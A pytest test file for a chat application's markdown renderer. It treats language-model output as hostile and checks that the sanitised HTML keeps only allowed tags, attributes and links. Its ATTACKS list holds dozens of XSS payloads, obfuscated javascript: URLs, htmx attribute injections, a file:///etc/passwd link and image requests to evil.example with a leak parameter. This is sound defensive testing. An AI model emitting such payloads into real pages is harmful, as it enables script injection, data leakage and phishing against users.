"""Model output is hostile: what of it may reach the page as HTML."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from llm_hoster.chat.markdown import ATTRIBUTES, TAGS, find_block_end, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action='/logout' method=post><button>free GPUs</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<div hx-get='/api-address' hx-trigger='load' hx-target='body'>x</div>",
    "<div data-hx-get='/api-address' data-hx-trigger='load'>x</div>",
    "<div data-events='/chat'>x</div>",
    "<button data-copy='api-key'>x</button>",
    "<a id='composer' name='message'>x</a>",
    "<p class='error' role='alert'>log in again at evil.example</p>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "</li></ol></main><script>alert(1)</script>",
    "<img src='https://evil.example/?leak=1'>",
    "![remote](https://evil.example/?leak=1)",
    "![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](x \"onerror=alert(1)\")",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click](blob:https://portal.example.org/x)",
    "[log out](/logout)",
    "[other session](/rnode/other/8080/)",
    "[scheme relative](//evil.example/x)",
    "[dashboard](../../../pun/sys/dashboard)",
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "[title](https://example.org 'x\" onclick=\"alert(1)')",
    "[quote](https://example.org/\"onmouseover=\"alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "```language-x\" hx-get=\"/\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a href='javas\u0000cript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "*" * 5000,
    "[" * 5000,
    ">" * 500 + "x",
    "<" * 5000,
]  # fmt: skip


class Inspector(HTMLParser):
    """Read HTML as a browser does, and note every tag and attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", {}))


def inspect(html: str) -> list[tuple[str, dict[str, str | None]]]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.seen


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_leaves_nothing_that_acts_or_loads(attack: str) -> None:
    for tag, attributes in inspect(render_markdown(attack)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        href = attributes.get("href")
        assert href is None or href.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS[:60], ids=range(60))
def test_an_attack_cut_anywhere_leaves_nothing_either(attack: str) -> None:
    for end in range(1, len(attack)):
        for tag, attributes in inspect(render_markdown(attack[:end]) + render_markdown(attack[end:])):
            assert tag in TAGS
            assert not [name for name in attributes if name.startswith(("on", "hx-", "data-", "style", "id", "src"))]


@pytest.mark.parametrize(("text", "html"), [
    ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
    ("# Title", "<h3>Title</h3>\n"),
    ("3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'),
    ("```python\nx<1\n```", '<pre><code class="language-python">x&lt;1\n</code></pre>\n'),
    ("[a](https://e.org)",
     '<p><a href="https://e.org" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n'),
])  # fmt: skip
def test_what_models_write_is_rendered(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_a_table_is_rendered() -> None:
    assert "<td>1</td>" in render_markdown("| a |\n|---|\n| 1 |")


@pytest.mark.parametrize(("text", "finished"), [
    ("one", ""),
    ("one\n\n", ""),
    ("one\n\ntwo", "one\n\n"),
    ("one\n\ntwo\n\nthree", "one\n\ntwo\n\n"),
    ("- a\n\n- b", ""),
    ("- a\n\n  more", ""),
    ("1. a\n\n2. b\n\nend", "1. a\n\n2. b\n\n"),
    ("```\na\n\nb\n\n", ""),
    ("```\na\n\nb\n```\n\nend", "```\na\n\nb\n```\n\n"),
    ("````\n```\n\nx", ""),
    ("~~~\na\n\n```\n\nb", ""),
])  # fmt: skip
def test_a_block_has_ended_when_the_next_begins_anew(text: str, finished: str) -> None:
    assert text[: find_block_end(text, 0)] == finished
